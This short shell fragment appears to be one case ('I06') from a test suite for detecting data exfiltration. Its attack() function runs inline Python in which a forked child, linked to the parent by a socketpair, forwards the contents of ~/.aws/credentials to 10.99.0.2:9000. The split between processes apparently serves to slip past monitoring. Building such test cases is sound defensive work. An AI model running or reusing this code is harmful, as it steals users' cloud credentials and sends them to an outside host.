# SPDX-License-Identifier: Apache-2.0
TITLE="a socketpair to a sender that waits before the secret is read"
ROW="I06"
attack() {
	python3 - <<-'END'
	import os, socket, time
	ours, theirs = socket.socketpair()
	if os.fork() == 0:
	    data = theirs.recv(4096)
	    socket.create_connection(('10.99.0.2', 9000), 5).sendall(data)
	    os._exit(0)
	time.sleep(0.3)
	ours.sendall(open(os.path.expanduser('~/.aws/credentials'), 'rb').read())
	os.wait()
	END
}
